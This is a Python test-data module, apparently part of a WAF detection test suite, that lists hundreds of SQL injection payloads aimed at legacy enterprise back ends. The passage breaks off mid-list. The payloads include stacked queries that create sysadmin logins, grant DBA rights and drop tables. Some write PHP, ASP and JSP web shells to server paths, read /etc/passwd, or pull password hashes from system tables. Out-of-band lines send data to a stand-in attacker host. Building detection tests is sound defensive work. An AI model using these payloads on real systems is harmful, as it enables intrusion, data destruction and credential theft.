"""Blind set "hundredninetyfifth": SQL and NoSQL injection aimed at the legacy and enterprise back ends that still
run behind modern edges, with benign requests that carry the same words innocently.

The angle: legacy and enterprise platforms, recalled from memory. Each payload is written the way a tester aims it
at one old or enterprise stack and uses that stack's own syntax, parameters and quirks: classic ASP (ADO string
concatenation, Request() falling through to cookies, IIS dropping a stray '%') on SQL Server 2000/2005 and
Microsoft Access (Jet: no comments, MSysObjects, asc()/mid(), '&' concatenation), ASP.NET WebForms (ctl00$ field
names, the Membership tables), ColdFusion cfquery without cfqueryparam (numeric #url.id#, PreserveSingleQuotes),
Perl CGI (DBI with interpolated strings) on MySQL and PostgreSQL, the Oracle PL/SQL gateway (mod_plsql, OWA_UTIL)
and Oracle E-Business Suite (APPS, FND_USER, FND_USER_PKG), IBM DB2 on z/OS, LUW and IBM i (SYSIBM, SYSCAT,
QSYS2, QCMDEXC, EBCDIC hex), Informix (brace comments, MATCHES, FIRST n, SPL SYSTEM), Sybase ASE (master..
syslogins, double-quoted WAITFOR), IBM WebSphere and Lotus Domino agents over DB2, SAP (HANA and MaxDB catalogs,
USR02, DD02T, ABAP dynamic WHERE clauses, Business One's OUSR), JBoss and WebLogic consoles' embedded HSQLDB and
H2 (static Java calls, CREATE ALIAS, CSVWRITE), old PHP CMSs (Mambo, Joomla 1.x, PHP-Nuke, phpBB 2, vBulletin,
osCommerce) on MySQL 4/5, Struts 1 and 2 DAOs and iBATIS $order$ substitution, Tomcat-hosted login servlets,
mainframe and AS/400 web gateways, and SOAP and XML-RPC services (whole envelopes as the XML body). A comment
above each group of payloads names the family, the platform and the target database or product.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Parameter names on our routes are the
legacy platforms' own (ProductID, ctl00$MainContent$txtSearch, p_id, storeId, catid, ...). SOAP and XML-RPC
envelopes go as the whole XML body; classic ASP cookie injection goes in a cookie; MongoDB and CouchDB documents
go as the JSON body; PHP bracket operators and IIS '%'-dropping payloads go as raw `name=value` pairs. Payloads
with control characters never go into headers, cookies, the path, XML or multipart bodies.

Authorship and independence: written for this repository from general knowledge of each attack family and of the
legacy platforms, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredninetyfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")
XML = ("xml", "rs-xml")
CK = ("cookie", "rs-cookie")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that break out of a literal and turn the WHERE clause around
LIBINJECTION: list[Entry] = [
    # classic ASP (ADO, "... where name='" & Request("q") & "'") on Microsoft Access/Jet: no comment token exists,
    # so the payload balances the trailing quote itself
    "' or 'a'='a",
    "x' or 1=1 or 'x'='y",
    "') or ('x'='x",
    # classic ASP on SQL Server 2000, product.asp?ProductID= numeric and string contexts
    "1 or 1=1--",
    "-1 or 1=1",
    "1' or '1'='1'--",
    # classic ASP cookie injection: Request("id") falls through to Request.Cookies when the query has no id
    ("5 or 1=1", "cookie", "rs-cookie"),
    ("0' or 'z'='z", "cookie", "rs-cookie"),
    # ASP.NET WebForms (ctl00$MainContent$txtSearch concatenated into a SqlCommand) on SQL Server 2005
    "zz' or 1=1--",
    "') or 1=1--",
    # ColdFusion cfquery without cfqueryparam: #url.id# in a numeric column (CF doubles quotes only in strings)
    "10 OR 1=1",
    "0 OR 2>1",
    "5) OR (1=1",
    # Perl CGI (DBI->do with an interpolated $q) on MySQL 4.1; a naive s/'/\\'/ escape is undone by a backslash
    "foo' or 1=1#",
    "\\' or 1=1#",
    # Oracle PL/SQL gateway (mod_plsql /pls/portal/...?p_id=) on Oracle 9i/10g
    "100 OR 1=1 --",
    "' OR 'A'='A' --",
    # DB2 for z/OS behind a CICS web gateway / WebSphere servlet
    "' OR 1=1 FETCH FIRST 1 ROWS ONLY --",
    "1 OR 1=1 WITH UR",
    # Informix (4GL web front end): the brace comment swallows the rest of the statement
    "' or 1=1 {",
    "1 or 1=1 {x}",
    # Sybase ASE behind a PowerBuilder web front end
    "x' or 1=1 --",
    # Struts 1 DAO (java.sql.Statement) on Oracle; Hibernate HQL in a JBoss Seam app (no comments in HQL)
    "' or '1'='1' or 'a'='",
    "' or 2=2 or ''='",
    # Mambo / Joomla 1.0 with magic_quotes_gpc off, MySQL
    "-1' or 1=1/*",
    # AS/400 RPG CGI program on DB2 for i
    "A' OR 1=1 OR 'B'='",
    # Lotus Domino web agent (LotusScript LC LSX to DB2): ?OpenAgent&id=
    "7 OR 1=1",
]

# sql-tautology/boolean: always-true conditions and the true/false pair of a boolean oracle
TAUTOLOGY: list[Entry] = [
    # Microsoft Access behind classic ASP: MSysObjects exists only in Jet, a true answer fingerprints it
    "1 and (select count(*) from MSysObjects)>0",
    "' or 1=1 and 'a'='a",
    "1 and iif(1=1,1,0)=1",
    # SQL Server 2000 behind classic ASP: the page stays the same only when the condition is true
    "1 and (select top 1 1 from sysobjects)=1",
    "1 and user='dbo'",
    "1 and is_srvrolemember('sysadmin')=1",
    "1 and 1=1",
    "1 and 1=2",
    # ColdFusion + SQL Server, numeric #url.catid#
    "3 AND 5=5",
    "3 AND 5=6",
    # Oracle E-Business Suite: the SYSADMIN row only exists in FND_USER on an EBS instance
    "' and 1=(select 1 from fnd_user where user_name='SYSADMIN') and 'a'='a",
    "' and (select count(*) from all_users)>0 and 'x'='x",
    "1 and (select 1 from dual)=1",
    # DB2 (SYSIBM.SYSDUMMY1 exists on z/OS and LUW), DB2 for i (QSYS2 catalog)
    "1 and (select 1 from sysibm.sysdummy1)=1",
    "' AND CURRENT SERVER <> '' AND 'a'='a",
    "1 and (select count(*) from qsys2.systables)>0",
    # Informix: systables row 1 is always systables itself
    "1 and (select count(*) from systables where tabid=1)=1",
    "' and dbinfo('version','major')>9 and 'a'='a",
    # Sybase ASE fingerprint and login table
    "1 and @@version like 'Adaptive Server%'",
    "1 and (select count(*) from master..syslogins)>0",
    # SAP HANA (DUMMY table) behind an SAP UI / XS front end
    "' and (select count(*) from dummy)=1 and ''='",
    "' and current_user='SYSTEM' and 'a'='a",
    # JBoss/WebLogic consoles' embedded H2 and HSQLDB
    "1 and h2version()>'1'",
    "1 and (select count(*) from information_schema.system_users)>0",
    # phpBB 2 / vBulletin on MySQL 4
    "2 and 8=8#",
    "' or not 0#",
    # ABAP dynamic WHERE (Open SQL has no comments): the always-true condition must close the quote itself
    "x' OR mandt <> '",
    # IBM WebSphere Commerce on DB2, storeId parameter
    "10001 and 1=1",
]

# sql-comment-sequence: comments that cut the rest of the statement off
COMMENT: list[Entry] = [
    # Microsoft Access via classic ASP has no comment syntax; Jet stops reading at a NUL byte instead
    "' or 1=1\x00",
    # SQL Server behind classic ASP / ASP.NET: the standard administrator and built-in accounts
    "sa'--",
    "administrator'--",
    "1;--",
    "x'/*",
    # Oracle mod_plsql and Oracle EBS: built-in accounts, and an Oracle hint comment in the injected clause
    "SYSADMIN'--",
    "SYSTEM' --",
    "' /*+ full(u) */ or 1=1--",
    # DB2 LUW and DB2 for i: instance owner and security officer
    "db2inst1'--",
    "QSECOFR' --",
    "1 --",
    # Informix: brace and double-dash comments
    "informix'{",
    "informix' --",
    "x' or 'a'='a' {",
    # SAP standard users against a custom BSP login on MaxDB / HANA
    "DDIC'--",
    "SAP*' --",
    # MySQL behind old PHP CMSs: every MySQL comment style after the admin account
    "admin'# ",
    "admin'/*",
    "admin' -- -",
    "-1 or 1=1-- -",
    # two-field login form on a Struts 1 action: comment opens in username, closes in password
    "clerk'/*",
    "*/ or '1'='1'--",
    # Sybase ASE: the sybase built-in login
    "probe'--",
    # PostgreSQL 7/8 behind a Perl CGI script
    "1'; --",
    # DB2 on z/OS via a COBOL CICS web service: end-of-line comment after a FETCH FIRST
    "' or 1=1 fetch first 1 rows only --",
    # Lotus Domino agent passing input to DB2 through LC LSX
    "notes'--",
]

# union-select: append the platform's credential or version row to the page's own result
UNION: list[Entry] = [
    # Microsoft Access: UNION needs a FROM, MSysObjects always exists
    "1 union select name,1 from MSysObjects",
    "' union select username,password from users where ''='",
    "-1 union select top 1 name,1 from msysobjects where type=1",
    # SQL Server 2000 behind classic ASP: sysxlogins holds the password hashes
    "-1 union select 1,@@version,3--",
    "' union select null,name,password from master..sysxlogins--",
    "' union all select null,name,password_hash from sys.sql_logins--",
    # ASP.NET Membership on SQL Server 2005
    "' union select UserName,Password from aspnet_Membership m join aspnet_Users u on m.UserId=u.UserId--",
    # ColdFusion + SQL Server, numeric #url.id#
    "0 UNION SELECT username,password FROM users",
    # Perl CGI on MySQL 4.1
    "-1 union select 1,user(),version()#",
    # Oracle 9i/10g (DES hashes in DBA_USERS), Oracle EBS FND_USER
    "' union select null,banner from v$version--",
    "' union select username,password from dba_users--",
    "-1 union select user_name,encrypted_user_password from apps.fnd_user--",
    # DB2 LUW and z/OS catalog version rows, DB2 for i
    "' union select null,versionnumber from sysibm.sysversions--",
    "' union select creator,name from sysibm.systables fetch first 5 rows only--",
    # Informix: dbinfo() and the first systables row
    "' union select dbinfo('version','full'),user from systables where tabid=1--",
    # Sybase ASE login hashes
    "' union select name,password from master..syslogins--",
    # SAP: HANA users, and the USR02 password hash table of an SAP system schema
    "' union select user_name,null from sys.users--",
    "' union select bname,passcode from usr02 where mandt='000'--",
    # SAP MaxDB
    "' union select username,null from domain.users--",
    # H2 and HSQLDB behind JBoss / WebLogic admin consoles
    "' union select h2version(),null--",
    "' union select user_name,null from information_schema.system_users--",
    # phpBB 2, vBulletin 3, Joomla 1.5, osCommerce, PHP-Nuke on MySQL
    "-1 union select 1,username,user_password from phpbb_users--",
    "-1 union select 1,concat(username,0x3a,password,0x3a,salt) from user#",
    "-1 union select concat(username,0x3a,password) from jos_users--",
    "0 union select customers_email_address,customers_password from customers#",
    "-1 union select aid,pwd from nuke_authors#",
    # XML-RPC (xmlrpc.php of an old PHP blog engine): the injected login string inside the method call
    ('<?xml version="1.0"?><methodCall><methodName>blogger.getUsersBlogs</methodName><params><param><value>'
     "<string>x</string></value></param><param><value><string>x' union select 1,user_login,user_pass from "
     "wp_users#</string></value></param><param><value><string>x</string></value></param></params></methodCall>",)
    + XML,
    # SOAP service on WebSphere over DB2 (JAX-RPC, the id concatenated into the query)
    ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soapenv:Body><getCustomer><custId>0 union select userid,passwd from db2admin.users</custId></getCustomer>"
     "</soapenv:Body></soapenv:Envelope>",) + XML,
]

# stacked-queries: a second statement after ';' where the driver allows batches
STACKED: list[Entry] = [
    # SQL Server 2000 behind classic ASP: new admin login
    "';exec sp_addlogin 'hax','hax';exec sp_addsrvrolemember 'hax','sysadmin'--",
    "1;insert into users(username,password,isadmin) values('hax','hax',1)--",
    "';update users set isadmin=1 where username='guest'--",
    "1;drop table sessions--",
    # SQL Server 2005+ behind ASP.NET WebForms, and the Membership role tables
    "';create login hax with password='P@ssw0rd1';exec sp_addsrvrolemember 'hax','sysadmin'--",
    ("';insert into aspnet_UsersInRoles select u.UserId,r.RoleId from aspnet_Users u,aspnet_Roles r where "
     "u.UserName='hax' and r.RoleName='Administrators'--"),
    # ColdFusion cfquery on SQL Server (batches allowed in one cfquery)
    "1;UPDATE users SET password='x' WHERE userid=1",
    # SAP Business One on SQL Server: make a user a superuser
    "';update OUSR set SUPERUSER='Y' where USER_CODE='manager2'--",
    # Sybase ASE
    "';exec sp_addlogin 'hax','Hax12345'--",
    "1;shutdown with nowait--",
    # SQL Server 2000 / Sybase: reset the sa password (sp_password also keeps the batch out of the trace)
    "';exec sp_password null,'hax','sa'--",
    # PostgreSQL 8 behind a Perl CGI script
    "1;create table pwn(t text);copy pwn from '/etc/passwd'--",
    "';insert into users(login,pass) values('hax',md5('hax'))--",
    # Oracle through a mod_plsql procedure that runs an anonymous block built from the parameter
    "1; execute immediate 'grant dba to scott'; end;--",
    "';begin execute immediate 'alter user sysadmin identified by welcome1'; end;--",
    # DB2 LUW via a WebSphere JDBC Statement with batching, DB2 for i via ODBC
    "1; insert into db2admin.users values('hax','hax')--",
    "'; grant dbadm on database to user hax--",
    # Informix
    "1; update users set role='admin' where name='guest'",
    "'; grant dba to public--",
    # Joomla 1.5 on MySQL through mysqli multi_query
    "1; update jos_users set usertype='Super Administrator',gid=25 where username='guest'#",
    # vBulletin 3 on MySQL
    "1; update user set usergroupid=6 where username='guest'#",
    # H2 behind a JBoss admin console: a new admin user
    "'; create user hax password 'hax' admin--",
    # HSQLDB (WebLogic examples / embedded) new DBA user
    "'; create user hax password 'hax'; grant dba to hax--",
    # SQL Server: write an ASP web shell into the IIS root through a table and bcp
    ("';create table t(c varchar(99));insert into t values('<%execute request(\"x\")%>');exec master..xp_cmdshell "
     "'bcp tempdb..t out c:\\inetpub\\wwwroot\\x.asp -c -T'--"),
    # Oracle 10g via a SOAP service exposing an anonymous block on WebLogic
    ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soapenv:Body><runReport><id>1;begin execute immediate 'grant dba to public';end;</id></runReport>"
     "</soapenv:Body></soapenv:Envelope>",) + XML,
    # SQL Server via a .asmx SOAP service (ASP.NET 1.1 web service)
    ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soap:Body><GetOrder xmlns=\"http://tempuri.org/\"><orderId>1;drop table orders--</orderId></GetOrder>"
     "</soap:Body></soap:Envelope>",) + XML,
]

# time-based-blind: the answer comes back as a delay
TIME: list[Entry] = [
    # SQL Server behind classic ASP and ASP.NET
    "'; waitfor delay '0:0:10'--",
    "1 waitfor delay '00:00:05'",
    "1);waitfor delay '0:0:5'--",
    "';if (select system_user)='sa' waitfor delay '0:0:5'--",
    "';if (ascii(substring((select top 1 name from sysobjects where xtype='U'),1,1))>64) waitfor delay '0:0:3'--",
    # Microsoft Access has no sleep: a heavy cross join stands in
    "1 and (select count(*) from MSysAccessObjects t1,MSysAccessObjects t2,MSysAccessObjects t3)>0",
    # Oracle: DBMS_PIPE.RECEIVE_MESSAGE waits inside a SELECT; EBS runs as APPS
    "' and 1=dbms_pipe.receive_message('x',10)--",
    "1 and 1=(case when (select user from dual)='APPS' then dbms_pipe.receive_message(chr(65),5) else 1 end)",
    "' and (select count(*) from all_objects a,all_objects b,all_objects c)>0--",
    # DB2: heavy catalog join, and DBMS_LOCK.SLEEP in DB2 9.7 Oracle-compatibility mode
    "' and (select count(*) from sysibm.syscolumns t1,sysibm.syscolumns t2,sysibm.syscolumns t3)>0--",
    "'; call dbms_lock.sleep(10)--",
    "' and (select count(*) from qsys2.syscolumns a,qsys2.syscolumns b,qsys2.syscolumns c)>0--",
    # Informix: heavy catalog join
    "' and (select count(*) from systables a,systables b,systables c,syscolumns d)>0--",
    # Sybase ASE: WAITFOR DELAY with a double-quoted time
    '1 waitfor delay "0:0:5"',
    "';waitfor delay '00:00:07'--",
    # MySQL 4.x / 5.0 under old PHP CMSs (no SLEEP before 5.0.12): BENCHMARK burns CPU instead
    "1' and benchmark(5000000,md5(1))#",
    "1 and sleep(5)",
    "-1 or if(1=1,sleep(5),0)",
    "1 and (select sleep(5) from jos_users where username='admin' and ascii(substr(password,1,1))>50)",
    "7 AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
    # PostgreSQL behind a Perl CGI
    "'; select pg_sleep(5)--",
    "1 and 1=(select 1 from pg_sleep(5))",
    # H2 behind a JBoss console: a large generated range
    "1 and (select count(*) from system_range(1,500000000))>0",
    # SAP HANA: heavy join on the catalog
    "' and (select count(*) from sys.objects a,sys.objects b,sys.objects c)>0--",
    # SOAP on an ASP.NET .asmx service over SQL Server
    ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soap:Body><Lookup xmlns=\"http://tempuri.org/\"><sku>1';waitfor delay '0:0:8'--</sku></Lookup></soap:Body>"
     "</soap:Envelope>",) + XML,
    # ColdFusion + SQL Server cookie-held cart id (CFID/CFTOKEN sites)
    ("1;WAITFOR DELAY '0:0:6'--", "cookie", "rs-cookie"),
]

# error-based: the platform's conversion or XML error message carries the answer
ERROR: list[Entry] = [
    # SQL Server behind classic ASP: "Microsoft OLE DB Provider for ODBC Drivers error '80040e07'"
    "1 and 1=convert(int,@@version)",
    "' and 1=convert(int,(select top 1 name from sysobjects where xtype='U'))--",
    "1 and 1=cast(db_name() as int)",
    "'+convert(int,system_user)+'",
    "' and 1=(select top 1 password from users)--",
    "1 AND 1=CONVERT(INT,DB_NAME())",
    # Sybase ASE
    "1 and 1=convert(int,(select name from master..syslogins where suid=1))",
    # Oracle: error functions that echo their argument
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and 1=dbms_xdb_version.checkin((select user from dual))--",
    "' and (select upper(xmltype(chr(60)||chr(58)||user||chr(62))) from dual) is not null--",
    "' and 1=ordsys.ord_dicom.getmappingxpath((select banner from v$version where rownum=1),user,user)--",
    # Oracle EBS: leak the SYSADMIN encrypted password through the error
    ("' and 1=utl_inaddr.get_host_name((select encrypted_user_password from apps.fnd_user "
     "where user_name='SYSADMIN'))--"),
    # DB2
    "' and 1=cast((select current user from sysibm.sysdummy1) as int)--",
    "' and 1=raise_error('70001',(select current server from sysibm.sysdummy1))--",
    # Informix cast operator
    "' and 1=(select first 1 tabname::int from systables where tabid>99)--",
    # MySQL under old PHP CMSs: XML function errors and the rand() group-by duplicate-key error
    "1 and extractvalue(1,concat(0x7e,(select password from jos_users limit 1)))",
    "' and updatexml(1,concat(0x7e,version()),1)#",
    "' and (select 1 from (select count(*),concat(user(),floor(rand(0)*2))x from information_schema.tables "
    "group by x)a)#",
    "1 and exp(~(select * from (select user())x))",
    # PostgreSQL behind a Perl CGI
    "' and 1=cast(version() as int)--",
    "' and 1=(select current_user)::int--",
    # HSQLDB / H2 consoles
    "1 and 1=cast(database() as int)",
    "1 and 1=cast((select user()) as int)",
    # SAP HANA
    "' and 1=to_int(current_user)--",
    # SOAP on WebLogic over Oracle
    ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soapenv:Body><getInvoice><invoiceNo>' and 1=ctxsys.drithsx.sn(1,(select user from dual))--</invoiceNo>"
     "</getInvoice></soapenv:Body></soapenv:Envelope>",) + XML,
]

# out-of-band: file read/write and network callbacks from the database server
OOB: list[Entry] = [
    # SQL Server behind classic ASP: UNC paths force an SMB lookup
    "'; exec master..xp_dirtree '\\\\oob.attacker.example\\share'--",
    "1;exec master..xp_fileexist '\\\\10.10.14.7\\x\\y'--",
    ("';declare @q varchar(99);set @q='\\\\'+(select top 1 name from sysobjects)+'.oob.attacker.example\\a';"
     "exec master..xp_dirtree @q--"),
    "1;exec master..xp_subdirs '\\\\oob.attacker.example\\s'--",
    "';bulk insert tmp from '\\\\oob.attacker.example\\s\\x.txt'--",
    # SQL Server 2000 OPENROWSET / OPENDATASOURCE back to the tester's listener
    "';select * from openrowset('SQLOLEDB','Network=DBMSSOCN;Address=10.10.14.7,1433;uid=sa;pwd=x','select 1')--",
    ("';select * from opendatasource('SQLOLEDB','Data Source=10.10.14.7,1433;User ID=sa;Password=x')"
     ".master.dbo.sysdatabases--"),
    # Oracle: UTL_HTTP, UTL_INADDR, HTTPURITYPE, DBMS_LDAP and the XXE through XMLTYPE
    "' and 1=utl_http.request('http://oob.attacker.example/'||(select user from dual))--",
    "' and (select utl_inaddr.get_host_address((select user from dual)||'.oob.attacker.example') from dual) "
    "is not null--",
    "' and httpuritype('http://oob.attacker.example/'||user).getclob() is not null--",
    "' and dbms_ldap.init((select user from dual)||'.oob.attacker.example',389) is not null--",
    ("' union select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
     "\"http://oob.attacker.example/\">%x;]>'),'/l'),null from dual--"),
    # PostgreSQL behind a Perl CGI: dblink and COPY ... PROGRAM
    "';select dblink_connect('host=oob.attacker.example user='||current_user||' dbname=x')--",
    "';copy (select '') to program 'nslookup oob.attacker.example'--",
    # MySQL on a Windows XAMPP / Linux LAMP box under an old PHP CMS
    "' and load_file(concat('\\\\\\\\',version(),'.oob.attacker.example\\\\a'))#",
    "' union select '<?php system($_GET[c]);?>',2 into outfile 'C:/xampp/htdocs/c.php'#",
    "-1 union select 1,'<?php passthru($_GET[x]);?>' into outfile '/var/www/html/joomla/images/x.php'--",
    "' union select load_file('/etc/passwd'),2#",
    "-1 union select 1,load_file('/var/www/html/configuration.php'),3--",
    # DB2 XML extender HTTP functions
    "' and db2xml.httpgetclob('http://oob.attacker.example/'||current user,'') is not null--",
    # Informix: server-side file read into a CLOB
    "' union select filetoclob('/etc/passwd','server'),null from systables where tabid=1--",
    # H2 behind a JBoss console: write a JSP into the deploy directory, read a server file
    ("';call csvwrite('/opt/jboss/server/default/deploy/ROOT.war/x.jsp','select ''<%Runtime.getRuntime()"
     ".exec(request.getParameter(\"c\"));%>''')--"),
    "' union select file_read('/etc/passwd',null),null--",
    # MySQL on the Perl CGI box: drop a CGI script into cgi-bin through INTO OUTFILE
    ("' union select '#!/usr/bin/perl\nprint \"Content-type: text/plain\\n\\n\";print `id`;',2 "
     "into outfile '/usr/lib/cgi-bin/x.cgi'#"),
    # Oracle EBS: the GUEST password leaves through UTL_HTTP
    ("' and (select utl_http.request('http://oob.attacker.example/'||(select encrypted_user_password from "
     "apps.fnd_user where user_name='GUEST')) from dual) is not null--"),
    # SQL Server via a SOAP .asmx service: UNC lookup
    ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soap:Body><GetUser xmlns=\"http://tempuri.org/\"><id>1;exec master..xp_dirtree '\\\\oob.attacker.example\\q'"
     "--</id></GetUser></soap:Body></soap:Envelope>",) + XML,
]

# information-schema/catalog probing: each platform's own dictionary of tables and columns
CATALOG: list[Entry] = [
    # Microsoft Access: MSysObjects type 1 rows are the local tables
    "' union select name,1 from MSysObjects where type=1 and ''='",
    # SQL Server 2000 system tables and the ANSI views
    "' union select name,id from sysobjects where xtype='U'--",
    "' union select name,null from syscolumns where id=object_id('users')--",
    "' and 1=(select count(*) from information_schema.tables)--",
    "' union select table_name,column_name from information_schema.columns--",
    "';select name from master..sysdatabases--",
    # Oracle and Oracle EBS dictionary views
    "' union select owner,table_name from all_tables--",
    "' union select column_name,data_type from all_tab_columns where table_name='FND_USER'--",
    "' union select null,table_name from user_tables--",
    "' union select object_name,null from all_objects where object_type='PACKAGE' and owner='APPS'--",
    # DB2 z/OS and LUW catalogs
    "' union select tbname,name from sysibm.syscolumns where tbname='EMPLOYEE'--",
    "' union select tabschema,tabname from syscat.tables--",
    "' union select colname,typename from syscat.columns where tabname='USERS'--",
    # DB2 for i (AS/400) catalog
    "' union select system_table_schema,system_table_name from qsys2.systables where table_type='P'--",
    "' union select column_name,null from qsys2.syscolumns where table_name='USERS'--",
    # Informix
    "' union select tabname,owner from systables where tabid>99--",
    "' union select colname,coltype from syscolumns where tabid=(select tabid from systables where tabname='users')--",
    # Sybase ASE
    "' union select name,null from sysobjects where type='U'--",
    # SAP: HANA catalog and the ABAP data dictionary's table texts
    "' union select schema_name,table_name from sys.tables--",
    "' union select tabname,ddtext from dd02t where ddlanguage='E'--",
    # HSQLDB and H2 behind JBoss / WebLogic
    "' union select table_name,null from information_schema.system_tables--",
    "' union select table_schema,table_name from information_schema.tables where table_schema='PUBLIC'--",
    # MySQL 5 under old PHP CMSs, and MySQL 4 (no information_schema) where the Mambo table name is guessed
    "-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--",
    "' and (select 1 from mos_users limit 1)=1#",
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name='jos_users'--",
    # PostgreSQL behind a Perl CGI
    "' union select null,tablename from pg_tables--",
    # SOAP service on WebSphere over DB2
    ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soapenv:Body><findPart><partNo>' union select creator,name from sysibm.systables--</partNo></findPart>"
     "</soapenv:Body></soapenv:Envelope>",) + XML,
]

# mysql-comment-obfuscation: MySQL version comments and comment-split keywords (old PHP CMSs, Perl CGI on MySQL)
MYCOMMENT: list[Entry] = [
    # Joomla 1.5 / Mambo: versioned comments that MySQL executes and naive filters skip
    "-1/*!union*//*!select*/1,2,3--",
    "-1 /*!50000union*/ /*!50000select*/ 1,username,password from jos_users--",
    "1/*!12345and*/1=1",
    "'/*!or*/1=1#",
    "-1 /*!UnIoN*/ /*!SeLeCt*/ username,password from mos_users--",
    "1'/*!50000and*/'1'='1",
    "admin'/*!30000or*/1#",
    "-1/*!40000union all select*/1,user(),3",
    "1 /*!and*/ sleep(5)",
    # PHP-Nuke: the app deletes '/**/' before the query, so the split keywords rejoin
    "-1 uni/**/on sel/**/ect aid,pwd from nuke_authors",
    "-1/**/union/**/select/**/aid,pwd/**/from/**/nuke_authors",
    # phpBB 2 / vBulletin: comment-as-space
    "'/**/union/**/select/**/1,concat(user,0x3a,password)/**/from/**/mysql.user#",
    "1/*x*/or/*x*/1=1",
    "-1/*foo*/union/*bar*/select/*baz*/1,user_password,3/**/from/**/phpbb_users",
    # hash comment ended by a newline (osCommerce search keywords)
    "-1#foo\nunion#bar\nselect 1,customers_password,3 from customers",
    "-1-- x\nunion select 1,2,3",
    "1'#\nor 1=1#",
    # Perl CGI on MySQL 4.1: nested versioned comment and version gate
    "-1 /*!40100 union select 1,version(),3*/",
    "1 /*!40101 and 1=0*/ union select user(),2",
    "' /*!32302 or 1=1*/ #",
    # ColdFusion + MySQL numeric id with comment-separated keywords
    "0/**/UNION/**/ALL/**/SELECT/**/user(),version()",
    # Struts 1 app on MySQL 5: versioned comment around the function
    "1 and /*!50000extractvalue*/(1,concat(0x7e,user()))",
    "1 and /*!ascii*/(/*!substring*/(user(),1,1))>64",
    # Tomcat-hosted login servlet on MySQL (JDBCRealm-style users table)
    "admin'/**/or/**/'1'='1",
    "tomcat'/*!00000or*/1=1#",
    # vBulletin 3 search with tab-and-comment spacing
    "1\t/*!union*/\tselect\t1,password,salt\tfrom\tuser",
    # XML-RPC pingback in an old PHP blog on MySQL
    ('<?xml version="1.0"?><methodCall><methodName>mt.getCategoryList</methodName><params><param><value>'
     "<string>1/*!union*//*!select*/user_login,user_pass from wp_users#</string></value></param></params>"
     "</methodCall>",) + XML,
]

# function-based-probing: substring/ascii/char/concat oracles, one character at a time
FUNCTION: list[Entry] = [
    # SQL Server behind classic ASP
    "' and ascii(substring((select top 1 name from sysobjects where xtype='U'),1,1))>77--",
    "1 and unicode(substring(system_user,1,1))=115",
    "' and len(db_name())=6--",
    "' and substring(@@version,1,9)='Microsoft'--",
    "1 AND ASCII(SUBSTRING(SYSTEM_USER,1,1))=115",
    # Microsoft Access: asc() and mid() instead of ascii() and substring()
    "1 and asc(mid((select top 1 password from users),1,1))>64",
    "1 and chr(65)='A'",
    "1 and instr((select top 1 username from users),'adm')=1",
    # Oracle and EBS
    "' and ascii(substr((select password from dba_users where username='SYS'),1,1))>64--",
    "' and substr((select banner from v$version where rownum=1),1,6)='Oracle'--",
    "' and chr(65)||chr(66)='AB'--",
    "' and length((select encrypted_foundation_password from apps.fnd_user where user_name='GUEST'))>10--",
    # DB2 and DB2 for i
    "' and ascii(substr((select current user from sysibm.sysdummy1),1,1))=68--",
    "' and locate('DB2',(select service_level from sysibmadm.env_inst_info))>0--",
    "' and substring(current server,1,1)='S'--",
    # Informix
    "' and ascii(substr((select first 1 tabname from systables where tabid=100),1,1))>64--",
    # Sybase ASE
    "1 and ascii(substring(@@servername,1,1))>64",
    # MySQL under old PHP CMSs
    "1 and ascii(substring((select password from jos_users where usertype='Super Administrator' limit 1),1,1))>52",
    "1 and mid(version(),1,1)=5",
    "1 and ord(mid(user(),1,1))=114",
    "1 and length(database())=8",
    "' and left(version(),1)='4'#",
    "-1 union select 1,concat_ws(0x3a,username,user_password),3 from phpbb_users--",
    # PostgreSQL behind a Perl CGI
    "' and ascii(substr(current_user,1,1))=112--",
    # SAP HANA
    "' and substring(current_user,1,3)='SAP'--",
    # H2 / HSQLDB consoles
    "' and ascii(substring(user(),1,1))>64--",
    # SOAP on an ASP.NET .asmx service
